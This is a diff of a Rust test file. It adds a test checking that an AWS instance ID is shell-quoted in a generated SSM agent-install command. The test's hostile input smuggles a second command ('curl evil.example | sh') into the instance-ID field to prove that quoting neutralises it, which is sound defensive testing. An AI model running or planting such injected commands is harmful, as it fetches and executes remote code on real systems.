@@ -810,3 +810,18 @@ async fn the_rule_judges_what_it_fetched() {
     assert_eq!(report, expected);
     assert_eq!(fakes.classic.script.count("ListExclusions"), 1);
 }
+
+#[test]
+fn an_instance_id_from_aws_is_one_shell_word_in_the_fix() {
+    assert_eq!(
+        install_agent_command("i-0abcd1234abcd1234", "us-east-1"),
+        "aws ssm send-command --document-name AmazonInspector-ManageAWSAgent --parameters \
+         '{\"Operation\":[\"Install\"]}' --targets Key=InstanceIds,Values=i-0abcd1234abcd1234 \
+         --region us-east-1"
+    );
+    let hostile = install_agent_command("i-1; curl evil.example | sh", "us-east-1");
+    assert!(
+        hostile.contains("Values='i-1; curl evil.example | sh' --region"),
+        "{hostile}"
+    );
+}
